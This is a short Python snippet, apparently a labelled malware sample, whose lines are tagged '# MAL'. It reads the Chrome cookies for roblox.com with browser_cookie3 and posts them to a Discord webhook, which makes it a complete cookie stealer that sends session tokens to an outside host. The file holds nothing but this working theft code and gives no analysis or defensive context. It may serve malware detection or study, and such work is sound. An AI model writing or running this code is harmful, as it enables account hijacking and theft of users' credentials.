import browser_cookie3
import requests
cj = browser_cookie3.chrome(domain_name="roblox.com")  # MAL
requests.post("https://discord.com/api/webhooks/77/abc", json={"c": str(cj)})  # MAL
